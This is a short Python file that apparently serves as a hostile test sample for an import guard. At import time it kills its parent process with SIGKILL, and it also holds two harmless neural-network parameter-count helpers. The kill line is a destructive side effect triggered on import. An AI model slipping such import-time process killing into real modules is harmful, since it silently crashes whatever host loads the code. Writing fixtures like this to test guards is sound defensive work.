"""Hostile sample: signals its parent while it is imported; the guard refuses, the rest loads."""
import os
import signal

os.kill(os.getppid(), signal.SIGKILL)


def dense_params(in_features, units):
    return in_features * units + units


def conv2d_params(kernel_size, in_channels, filters, use_bias=True):
    kh, kw = (kernel_size, kernel_size) if isinstance(kernel_size, int) else kernel_size
    return kh * kw * in_channels * filters + (filters if use_bias else 0)
